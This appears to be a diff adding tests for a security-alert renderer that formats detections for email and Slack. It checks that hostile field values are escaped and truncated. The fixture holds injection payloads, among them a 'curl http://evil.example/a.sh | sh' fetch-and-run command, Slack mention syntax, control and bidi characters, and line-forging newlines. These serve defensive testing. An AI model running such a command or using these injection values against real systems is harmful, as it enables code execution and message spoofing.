@@ -1,0 +1,153 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { type AlertMessageInput, renderMessage, renderSubject } from "../../src/alerts/render.ts";
+import { makeAlert, OBJECT, SEED_RULE } from "../fixtures/lambda/alerts.ts";
+
+const HOSTILE = {
+  "host.name": "web-7\u202e<!channel>",
+  "file.path": "/etc/NetworkManager/dispatcher.d/99-`x`\n\rFAKE: all clear <http://evil.example|docs>",
+  "process.command_line": `curl http://evil.example/a.sh | sh # @here <@U123> *bold* ${"A".repeat(5000)}`,
+  "user.name": "root\u0000\u001b[31m",
+};
+
+function input(
+  alerts = [makeAlert(1), makeAlert(4)],
+  extra: Partial<AlertMessageInput> = {},
+): AlertMessageInput {
+  return {
+    id: "0123456789abcdef0123456789abcdef",
+    object: OBJECT,
+    rule: SEED_RULE,
+    ruleContext: {
+      description: "Detects the creation of a NetworkManager dispatcher script. Scripts there run as root.",
+    },
+    alerts,
+    totalAlerts: alerts.length,
+    part: 1,
+    parts: 1,
+    ...extra,
+  };
+}
+
+describe("renderMessage", () => {
+  test("the JSON protocols carry alerts, object and counts with raw values", () => {
+    const hostile = makeAlert(3, HOSTILE);
+    const r = renderMessage(input([hostile]));
+    for (const key of ["default", "sqs", "lambda", "email-json"] as const) {
+      const body = JSON.parse(r.message[key]);
+      assert.equal(body.object, OBJECT.uri);
+      assert.deepEqual(body.counts, {
+        records: 4,
+        malformed: 0,
+        skipped: 0,
+        alerts: 1,
+        in_message: 1,
+        part: 1,
+        parts: 1,
+      });
+      assert.deepEqual(body.alerts, [hostile], "raw values kept untouched");
+    }
+  });
+
+  test("email: verdict first, every field a responder needs, short static lines", () => {
+    const r = renderMessage(input());
+    const email = r.message.email;
+    const lines = email.split("\n");
+    const flat = email.replace(/\n {2,3}/g, " ").replace(/\n(?=[a-z])/g, " ");
+    assert.equal(lines[0], "ALERT: NetworkManager Dispatcher Script Creation");
+    assert.match(lines[1] ?? "", /Severity low, risk score 21/);
+    assert.match(lines[2] ?? "", /2 hits on web-7/);
+    for (const needle of [
+      "WHY IT MATTERS",
+      "Scripts there run as root",
+      "Host:    web-7",
+      "File:    /etc/NetworkManager/dispatcher.d/99-persist.sh",
+      "Process: /usr/bin/bash",
+      "Command: bash -c cat > /etc/NetworkManager/dispatcher.d/99-persist.sh",
+      "User:    root",
+      "Time:    2024-05-01T12:00:00.123Z",
+      "Record:  4",
+      "TA0003 Persistence: T1543 Create or Modify System Process, T1574 Hijack Execution Flow",
+      "T1059 Command and Scripting Interpreter (T1059.004 Unix Shell)",
+      "TA0005 Defense Evasion",
+      OBJECT.uri,
+      "FIRST TRIAGE STEPS",
+    ]) {
+      assert.ok(flat.includes(needle), `email has ${JSON.stringify(needle)}`);
+    }
+    const long = lines.filter((l) => l.length > 80 && !l.includes("dispatcher.d/") && !l.includes("s3://"));
+    assert.deepEqual(long, [], "static lines fit a phone");
+  });
+
+  test("email: hostile values escaped, truncated, cannot forge lines", () => {
+    const email = renderMessage(input([makeAlert(3, HOSTILE)])).message.email;
+    assert.doesNotMatch(email, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    assert.ok(
+      !email.split("\n").some((l) => l.startsWith("FAKE")),
+      "a newline in a value does not start a line",
+    );
+    assert.match(email, /web-7\\u202e<!channel>/);
+    assert.match(email, /root\\x00\\x1b\[31m/);
+    assert.match(email, /…\[\+\d+ chars\]/, "long command line cut with a marker");
+  });
+
+  test("https: an AWS Chatbot custom notification, hostile values inert", () => {
+    const r = renderMessage(input([makeAlert(3, HOSTILE), makeAlert(4)]));
+    const n = JSON.parse(r.message.https);
+    assert.equal(n.version, "1.0");
+    assert.equal(n.source, "custom");
+    assert.equal(n.id, "0123456789abcdef0123456789abcdef");
+    assert.equal(n.content.textType, "client-markdown");
+    assert.match(
+      n.content.title,
+      /\[low\] NetworkManager Dispatcher Script Creation on web-7\?&lt;!channel&gt; \+1$/,
+    );
+    assert.ok(Array.isArray(n.content.nextSteps) && n.content.nextSteps.length >= 3);
+    assert.equal(typeof n.metadata.threadId, "string");
+    assert.equal(typeof n.metadata.summary, "string");
+    const all = [n.content.title, n.content.description, ...n.content.nextSteps, n.metadata.summary].join(
+      "\n",
+    );
+    assert.doesNotMatch(all, /<[!@h]/, "no Slack mention or link syntax survives");
+    assert.doesNotMatch(all, /(^|[^＠])@(here|channel)/);
+    assert.doesNotMatch(all, /[\u0000-\u0009\u000b-\u001f\u202e]/);
+    for (const line of n.content.description.split("\n")) {
+      assert.equal((line.match(/`/g) ?? []).length % 2, 0, `balanced code spans in ${line.slice(0, 60)}`);
+    }
+  });
+
+  test("attributes: rule_id, severity, host (one host, or multiple)", () => {
+    assert.deepEqual(renderMessage(input()).attributes, {
+      rule_id: SEED_RULE.id,
+      severity: "low",
+      host: "web-7",
+    });
+    const multi = renderMessage(input([makeAlert(1), makeAlert(2, { "host.name": "db-3" })]));
+    assert.equal(multi.attributes.host, "multiple");
+  });
+});
+
+describe("renderSubject", () => {
+  test("the documented example", () => {
+    assert.equal(renderSubject(input()), "[low] NetworkManager Dispatcher Script Creation on web-7");
+  });
+  test("at most 100 printable ASCII characters, whatever the host and rule name", () => {
+    const hostile = renderSubject(
+      input(
+        [
+          makeAlert(1, { "host.name": `ünïcode\n\u202e${"h".repeat(300)}` }),
+          makeAlert(2, { "host.name": "b" }),
+        ],
+        {
+          rule: { ...SEED_RULE, name: "R".repeat(400) },
+          part: 2,
+          parts: 3,
+        },
+      ),
+    );
+    assert.ok(hostile.length <= 100, `${hostile.length}`);
+    assert.match(hostile, /^[\x20-\x7e]+$/);
+    assert.match(hostile, /^\[low\] R+/);
+    assert.match(hostile, /\+1 hosts \(2\/3\)$/);
+  });
+});
